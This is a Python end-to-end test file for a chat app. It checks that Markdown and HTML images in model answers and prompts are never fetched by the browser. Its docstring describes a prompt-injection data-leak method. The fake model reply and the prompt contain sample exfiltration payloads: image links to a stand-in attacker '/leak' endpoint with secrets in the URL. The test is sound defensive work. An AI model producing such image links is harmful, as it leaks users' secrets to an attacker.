"""In a real browser, model answers and prompts make it fetch nothing by itself: a prompt
injection that makes a model answer with a Markdown image pointing at an attacker's server
(the secret in its address) leaves that server unasked."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from tests.e2e.conftest import start_app, stop_app
from tests.e2e.test_load import load_config_dict
from tests.fake_servers import FakeServer

pytestmark = pytest.mark.e2e


def test_images_in_answers_and_prompts_are_never_loaded(tmp_path: Path, page: Any) -> None:
    with FakeServer("openai") as fake:  # the model, and the attacker's server it points at
        leak = f"{fake.url}/leak"
        fake.set_instant(
            f"Here you go ![chart]({leak}?q=SECRET-1) and ![logo][r] and "
            f"![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)\n\n[r]: {leak}?q=SECRET-2\n\n"
            "```rust\nlet v = vec![1, 2];\n```"
        )
        process, url, _ = start_app(tmp_path, load_config_dict(tmp_path / "data", fake), with_user=False)
        try:
            page.goto(url)
            box = page.get_by_test_id("stChatInputTextArea")
            box.fill(f"Summarise ![me]({leak}?q=PROMPT) <img src='{leak}?q=HTML'>")
            box.press("Enter")
            page.get_by_role("button", name="Save rating").wait_for(timeout=60_000)
            page.wait_for_timeout(1500)  # time for any image the page asked for to be fetched
            answer = page.get_by_test_id("stChatMessage").last
            assert "SECRET-1" in answer.inner_text()  # shown as text
            assert "vec![1, 2]" in answer.inner_text()  # code stays as written
            assert page.locator("[data-testid='stChatMessage'] img").count() == 0
        finally:
            stop_app(process)
    fetched = [r.path for r in fake.requests if "/leak" in r.path]
    assert fetched == []
